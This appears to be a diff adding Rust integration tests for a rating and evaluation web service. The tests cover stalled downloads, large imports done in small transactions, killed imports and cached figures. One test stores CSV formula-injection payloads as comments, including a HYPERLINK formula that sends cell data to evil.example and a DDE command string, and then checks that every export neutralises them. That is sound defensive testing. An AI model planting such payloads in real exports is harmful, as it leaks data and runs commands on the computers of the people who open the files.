@@ -1,0 +1,439 @@
+//! Nobody stalls a rater: downloads that nobody reads, formulas in what people download, imports beside ratings.
+
+#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]
+
+use crate::util::{Client, TestApp};
+use app::{
+    error::AppError,
+    model::{
+        api::{NewPublicLink, Scope},
+        feedback::CameBack,
+        grading::{Draft, GradingItem, Next, Receipt},
+        ids::{OutputId, StudyId, TaskRevisionId, UploadId},
+        quality::{QualitySettings, Shown},
+        ratings_import::RatingsKind,
+        study::StudyStatus,
+        submission::Matching,
+        time::Timestamp,
+    },
+    port::{Accounts, Caller, Datasets, Plans, Studies, Submissions, api::PublicLinks, quality::Quality},
+};
+use axum::http::{Method, StatusCode};
+use rand::SeedableRng;
+use serde_json::{Value, json};
+use server::{
+    clock,
+    db::{
+        results_import::{self, Given, Study},
+        results_judges, staging,
+        submissions::{self, NewOutput, NewSubmission},
+    },
+    services::ratings_import,
+};
+
+async fn study(client: &mut Client) -> String {
+    let desk: Value = client.rpc("desk", json!({})).await.json();
+    desk[0]["token"].as_str().unwrap().to_owned()
+}
+
+async fn next(client: &mut Client, study: &str) -> Option<GradingItem> {
+    match client.rpc("next", json!({"study": study})).await.json() {
+        Next::Item(item) => Some(*item),
+        _ => None,
+    }
+}
+
+/// Rates the next output with the comment; `None` when there is none left.
+async fn rate_next(client: &mut Client, study: &str, comment: &str) -> Option<Receipt> {
+    let item = next(client, study).await?;
+    let draft = Draft { scores: vec![Some(3), Some(2), Some(4)], comment: comment.into(), ..Draft::default() };
+    Some(client.rpc("submit_rating", json!({"assignment": item.token, "draft": draft, "key": item.token})).await.json())
+}
+
+#[tokio::test]
+async fn raters_work_while_more_downloads_stall_than_there_are_readers() {
+    let app = TestApp::demo().await;
+    // More bytes than any channel or socket on the way holds: the download is still waiting for its client.
+    let long = "长".repeat(3_900);
+    let mut rater = app.rater().await;
+    let own = study(&mut rater).await;
+    for _ in 0..60 {
+        assert_eq!(rate_next(&mut rater, &own, &long).await, Some(Receipt::Stored));
+    }
+    let token = app.token(&[Scope::Read]).await;
+    let paths = [
+        "/api/v1/comparisons/starter/files/ratings.csv",
+        "/api/v1/comparisons/starter/files/ratings.jsonl",
+        "/api/v1/comparisons/starter/files/bundle.zip",
+        "/api/v1/studies/1/ratings.csv",
+    ];
+    let mut stalled = Vec::new();
+    for path in paths.into_iter().cycle().take(12) {
+        let response = app.anonymous().open(&[("authorization", &format!("Bearer {token}"))], path).await;
+        assert_eq!(response.status(), StatusCode::OK, "{path}");
+        stalled.push(response);
+    }
+    // Raters read and write, and pages are rendered.
+    let mut other = app.demo_user("bo").await;
+    let others = study(&mut other).await;
+    assert_eq!(rate_next(&mut other, &others, "").await, Some(Receipt::Stored));
+    assert_eq!(rate_next(&mut rater, &own, "").await, Some(Receipt::Stored));
+    assert_eq!(app.admin().await.get("/admin/studies").await.status, StatusCode::OK);
+    // No snapshot is held: the log can be emptied.
+    assert!(!app.services.db.checkpoint().unwrap(), "a snapshot is held");
+    // A client that wakes up gets the whole file.
+    let path = paths[0];
+    let bytes = http_body_util::BodyExt::collect(stalled.remove(0).into_body()).await.unwrap().to_bytes();
+    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), 61, "{path}");
+}
+
+#[tokio::test]
+async fn no_download_holds_a_formula() {
+    let app = TestApp::demo().await;
+    let mut rater = app.rater().await;
+    let own = study(&mut rater).await;
+    let formulas =
+        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "\t=cmd|' /C calc'!A0", "@SUM(A1)", "-1+1", "\"=1"];
+    for formula in formulas {
+        assert_eq!(rate_next(&mut rater, &own, formula).await, Some(Receipt::Stored));
+    }
+    // Names of models and raters are chosen by people, too.
+    app.services
+        .db
+        .write_blocking(|tx| {
+            tx.execute("UPDATE models SET name = '=' || name", [])?;
+            tx.execute("UPDATE users SET name = '+' || name WHERE name = 'ada'", [])?;
+            Ok(())
+        })
+        .unwrap();
+    let mut random = rand_chacha::ChaCha8Rng::from_seed([7; 32]);
+    app.run_all(&mut random).await;
+    let mut admin = app.admin().await;
+    let token = app.token(&[Scope::Read]).await;
+    let mut checked = 0;
+    for (path, api) in [
+        ("/admin/studies/1/ratings.csv", false),
+        ("/admin/studies/1/comparison.csv", false),
+        ("/admin/compare/starter/export/ratings.csv", false),
+        ("/admin/compare/starter/export/verdicts.csv", false),
+        ("/admin/runs/1/results.csv", false),
+        ("/admin/runs/compare.csv?a=1&b=2", false),
+        ("/api/v1/studies/1/ratings.csv", true),
+        ("/api/v1/studies/1/comparison.csv", true),
+        ("/api/v1/comparisons/starter/files/ratings.csv", true),
+        ("/api/v1/comparisons/starter/files/verdicts.csv", true),
+        ("/api/v1/runs/1/results.csv", true),
+    ] {
+        let answer = match api {
+            true => app.anonymous().api(&token, Method::GET, path, None).await,
+            false => admin.get(path).await,
+        };
+        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.body);
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(answer.body.as_bytes());
+        for record in reader.records() {
+            for cell in &record.unwrap() {
+                let formula = cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(!formula || cell.parse::<f64>().is_ok(), "{path}: {cell:?}");
+                checked += usize::from(cell.starts_with('\''));
+            }
+        }
+    }
+    assert!(checked > formulas.len() * 3, "the formulas are in the files: {checked}");
+}
+
+/// What one transaction may change while people rate: a chunk of an import with what triggers add to it, and the
+/// ratings that share its commit.
+const MOST_ROWS: u64 = 2_000;
+
+/// Outputs of every task of the starter dataset, `samples` of each and all different.
+fn outputs(tasks: &[String], samples: usize) -> Vec<u8> {
+    let line = |(task, sample): (&String, usize)| {
+        json!({"task_id": task, "code": format!("int answer() {{ return {sample}; }}")}).to_string() + "\n"
+    };
+    let all = (0..samples).flat_map(|sample| tasks.iter().map(move |task| (task, sample)));
+    all.map(line).collect::<String>().into_bytes()
+}
+
+async fn starter_tasks(app: &TestApp) -> Vec<String> {
+    let detail = app.services.datasets.get(&Caller::Operator, "starter", None).await.unwrap();
+    detail.tasks.into_iter().map(|task| task.task_id).collect()
+}
+
+async fn uploaded(app: &TestApp, bytes: &[u8]) -> UploadId {
+    let mut incoming = app.services.uploads.begin("many.jsonl").await.unwrap();
+    incoming.write(bytes).await.unwrap();
+    let file = incoming.finish().await.unwrap();
+    app.services.submissions.note_upload(&Caller::Operator, file).await.unwrap()
+}
+
+fn count(app: &TestApp, table: &str) -> i64 {
+    let sql = format!("SELECT count(*) FROM {table}");
+    app.services.db.read_blocking(|conn| Ok(conn.query_row(&sql, [], |row| row.get(0))?)).unwrap()
+}
+
+fn is_sound(app: &TestApp) {
+    let broken = app.services.db.read_blocking(|conn| Ok(conn.prepare("PRAGMA foreign_key_check")?.exists([])?));
+    assert!(!broken.unwrap(), "a row refers to one that does not exist");
+}
+
+#[tokio::test]
+async fn a_large_upload_is_stored_in_small_transactions_between_ratings() {
+    let app = TestApp::demo().await;
+    let tasks = starter_tasks(&app).await;
+    // What made the demo counts no more.
+    let app = app.restarted();
+    let samples = 30_000 / tasks.len();
+    let upload = uploaded(&app, &outputs(&tasks, samples)).await;
+    let take = |model: &'static str| {
+        let submissions = app.services.submissions.clone();
+        async move { submissions.take(&Caller::Operator, upload, "starter", Matching::TaskId, model).await }
+    };
+    let import = tokio::spawn(take("Large"));
+    let mut rater = app.rater().await;
+    let own = study(&mut rater).await;
+    let mut stored = 0;
+    while !import.is_finished() {
+        stored += i64::from(rate_next(&mut rater, &own, "").await == Some(Receipt::Stored));
+        // All of it is seen, or nothing.
+        let seen = app.services.submissions.list(&Caller::Operator, None).await.unwrap();
+        let seen = seen.iter().find(|row| row.model_name == "Large").map(|row| row.outputs);
+        assert!(seen.is_none_or(|outputs| outputs == (samples * tasks.len()) as u64), "{seen:?}");
+    }
+    let id = import.await.unwrap().unwrap();
+    assert!(stored > 0);
+    assert_eq!(count(&app, "ratings"), stored);
+    let seen = app.services.submissions.list(&Caller::Operator, None).await.unwrap();
+    let row = seen.iter().find(|row| row.id == id).unwrap();
+    assert_eq!((row.outputs, row.tasks), ((samples * tasks.len()) as u64, tasks.len() as u64));
+    let most = app.services.db.most_rows();
+    assert!(most <= MOST_ROWS, "one transaction changed {most} rows");
+    // The same file again is refused, and leaves no row.
+    let rows = count(&app, "outputs");
+    assert!(matches!(take("Large").await, Err(AppError::Conflict(_))));
+    assert_eq!((count(&app, "outputs"), count(&app, "all_submissions")), (rows, seen.len() as i64));
+    is_sound(&app);
+}
+
+#[tokio::test]
+async fn the_same_upload_imported_twice_at_once_is_one_submission() {
+    let app = TestApp::demo().await;
+    let tasks = starter_tasks(&app).await;
+    let before = count(&app, "outputs");
+    let upload = uploaded(&app, &outputs(&tasks, 20)).await;
+    let take = || app.services.submissions.take(&Caller::Operator, upload, "starter", Matching::TaskId, "Twice");
+    let (one, other) = tokio::join!(take(), take());
+    assert!(one.is_ok() != other.is_ok(), "{one:?} {other:?}");
+    assert!(matches!(one.and(other), Err(AppError::Conflict(_))));
+    // The other's rows are deleted: at once in the background, or as those of a killed import.
+    let later = Timestamp(clock::now().0 + 2 * staging::LEASE_MS);
+    assert!(!app.services.db.clear_imports(later).unwrap());
+    assert_eq!(count(&app, "outputs"), before + 20 * tasks.len() as i64);
+    is_sound(&app);
+}
+
+#[tokio::test]
+async fn imported_ratings_are_stored_in_small_transactions_and_seen_together() {
+    let app = TestApp::demo().await;
+    let tasks = starter_tasks(&app).await;
+    let models: Vec<String> = app
+        .services
+        .submissions
+        .list(&Caller::Operator, None)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|row| row.model_name)
+        .collect();
+    let app = app.restarted();
+    let mut text = "task_id,model,rater,correctness,code_quality,maintainability,comment\n".to_owned();
+    for rater in 0..90 {
+        for (task, model) in tasks.iter().flat_map(|task| models.iter().map(move |model| (task, model))) {
+            text += &format!("{task},{model},r{rater},3,2,4,\n");
+        }
+    }
+    let lines = text.lines().count() as u64 - 1;
+    let file = |kind| ratings_import::File {
+        dataset: "starter".into(),
+        kind,
+        name: "many.csv".into(),
+        content: Box::new(std::io::Cursor::new(text.clone())),
+        mapping: Default::default(),
+    };
+    let service = app.services.ratings.clone();
+    let people = file(RatingsKind::People("Many".into()));
+    let import = tokio::spawn(async move { service.take(&Caller::Operator, people).await });
+    let mut rater = app.rater().await;
+    let own = study(&mut rater).await;
+    let mut stored = 0;
+    while !import.is_finished() {
+        stored += i64::from(rate_next(&mut rater, &own, "").await == Some(Receipt::Stored));
+        let studies = app.services.studies.list(&Caller::Operator).await.unwrap();
+        assert!(studies.iter().all(|row| row.title != "Many" || row.status == StudyStatus::Closed));
+        let people = app.services.accounts.users(&Caller::Operator).await.unwrap();
+        let theirs: Vec<_> = people.iter().filter(|user| user.name.contains("imported")).collect();
+        assert!(theirs.is_empty() || theirs.iter().all(|user| user.ratings == lines / 90), "{theirs:?}");
+    }
+    let taken = import.await.unwrap().unwrap();
+    assert_eq!((taken.ratings, taken.taken), (lines, true));
+    assert_eq!(count(&app, "ratings"), lines as i64 + stored);
+    let most = app.services.db.most_rows();
+    assert!(most <= MOST_ROWS, "one transaction changed {most} rows");
+    assert_eq!(count(&app, "webhook_deliveries"), 0);
+
+    let judge = app.services.ratings.take(&Caller::Operator, file(RatingsKind::Judge("J".into()))).await;
+    assert!(judge.is_err(), "a judge rates an output once");
+    assert_eq!((count(&app, "all_judgings"), count(&app, "judged_scores")), (0, 0));
+    is_sound(&app);
+}
+
+#[tokio::test]
+async fn a_killed_import_is_unseen_and_cleared() {
+    let app = TestApp::demo().await;
+    let tables = [
+        "all_submissions",
+        "outputs",
+        "all_studies",
+        "assignments",
+        "ratings",
+        "rating_scores",
+        "counted",
+        "users",
+        "study_raters",
+        "study_submissions",
+        "all_judgings",
+        "judged_scores",
+        "study_stamps",
+    ];
+    let mut rater = app.rater().await;
+    let own = study(&mut rater).await;
+    rate_next(&mut rater, &own, "").await;
+    let rows = |app: &TestApp| tables.map(|table| (table, count(app, table)));
+    let before = rows(&app);
+    let seen = async |app: &TestApp| {
+        let services = &app.services;
+        (
+            services.submissions.list(&Caller::Operator, None).await.unwrap().len(),
+            services.studies.list(&Caller::Operator).await.unwrap().len(),
+            services.accounts.users(&Caller::Operator).await.unwrap().len(),
+        )
+    };
+    let shown = seen(&app).await;
+    // As far as an import gets that is killed before its last transaction.
+    app.services
+        .db
+        .write_blocking(|tx| {
+            let target = results_import::target(tx, "starter")?.unwrap();
+            let model = submissions::model(tx, "Killed")?;
+            let new = NewSubmission {
+                version: target.version,
+                model,
+                file: "f".into(),
+                checksum: "c".into(),
+                matching: "task_id",
+                by: None,
+            };
+            let id = submissions::begin(tx, &new)?;
+            let revision = TaskRevisionId(tx.query_row("SELECT min(id) FROM task_revisions", [], |row| row.get(0))?);
+            let outputs: Vec<NewOutput> = (0..250)
+                .map(|sample| NewOutput {
+                    revision,
+                    sample,
+                    code: "x".into(),
+                    said: String::new(),
+                    raw: None,
+                    end_by: None,
+                })
+                .collect();
+            submissions::add_outputs(tx, id, &outputs)?;
+
+            let output = OutputId(tx.query_row("SELECT min(id) FROM outputs", [], |row| row.get(0))?);
+            let given = |rater| Given { output, rater, scores: vec![1, 2, 3], comment: String::new(), at: None };
+            let raters: Vec<String> = (0..3).map(|n| format!("rater {n}")).collect();
+            let submission = tx.query_row("SELECT min(id) FROM submissions", [], |row| row.get(0))?;
+            let new = Study {
+                title: "Killed",
+                target: &target,
+                submissions: &[submission],
+                raters: &raters,
+                overlap: 3,
+                by: None,
+            };
+            let (id, users) = results_import::begin(tx, &new)?;
+            let ratings = [given(0), given(1), given(2)];
+            results_import::add(tx, id, &users, &mut Default::default(), &ratings)?;
+
+            let judging = results_judges::begin(tx, target.version, target.rubric_id, ("Killed", "f"), None)?;
+            results_judges::add(tx, judging, &[given(0)])
+        })
+        .unwrap();
+    assert_eq!(seen(&app).await, shown);
+    let app = app.restarted();
+    // It looks alive until its lease has run out.
+    assert!(app.services.db.clear_imports(clock::now()).unwrap());
+    let later = Timestamp(clock::now().0 + 2 * staging::LEASE_MS);
+    assert!(!app.services.db.clear_imports(later).unwrap());
+    assert_eq!(rows(&app), before);
+    is_sound(&app);
+    // References are held again.
+    let dangling = app.services.db.write_blocking(|tx| {
+        Ok(tx.execute("INSERT INTO study_submissions (study_id, position, submission_id) VALUES (99, 0, 99)", [])?)
+    });
+    assert!(dangling.is_err());
+}
+
+#[tokio::test]
+async fn lists_of_studies_do_not_compute_figures_again() {
+    let app = TestApp::demo().await;
+    let services = &app.services;
+    let settings = QualitySettings { shown: Shown::Own, spread: Some(0), ..QualitySettings::default() };
+    services.quality.set(&Caller::Operator, StudyId(1), settings).await.unwrap();
+    let mut people = [app.rater().await, app.demo_user("bo").await, app.admin().await];
+    let own = study(&mut people[0]).await;
+    for _ in 0..2 {
+        assert_eq!(rate_next(&mut people[0], &own, "").await, Some(Receipt::Stored));
+        let before = services.quality.computations();
+        for _ in 0..5 {
+            for person in &mut people {
+                let answer = person.rpc("came_back", json!({})).await;
+                assert_eq!(answer.status, StatusCode::OK);
+            }
+        }
+        assert_eq!(services.quality.computations(), before + 1);
+    }
+    let back: CameBack = people[0].rpc("came_back", json!({})).await.json();
+    assert_eq!(back.figures.len(), 1);
+}
+
+#[tokio::test]
+async fn a_public_page_is_computed_once_however_many_look() {
+    let app = TestApp::demo().await;
+    let services = &app.services;
+    let mut rater = app.rater().await;
+    let own = study(&mut rater).await;
+    for _ in 0..5 {
+        rate_next(&mut rater, &own, "").await;
+    }
+    // More studies than large figures are kept.
+    let mut links = Vec::new();
+    for study in 1..=9 {
+        if study > 1 {
+            let copy = services.plans.copy(&Caller::Operator, StudyId(1)).await.unwrap();
+            assert_eq!(copy, StudyId(study));
+        }
+        services.studies.set_status(&Caller::Operator, StudyId(study), StudyStatus::Closed).await.unwrap();
+        let new = NewPublicLink { code: false, days: None };
+        links.push(services.public_links.create(&Caller::Operator, StudyId(study), new).await.unwrap().path);
+    }
+    let before = services.comparisons.computations();
+    for _ in 0..3 {
+        // Twenty people open every link at the same time.
+        let all = (0..20).flat_map(|_| &links).map(|path| {
+            let secret = path.strip_prefix("/public/").unwrap();
+            services.public_links.open(secret)
+        });
+        for page in futures::future::join_all(all).await {
+            page.unwrap();
+        }
+    }
+    assert_eq!(services.comparisons.computations(), before + links.len() as u64);
+}
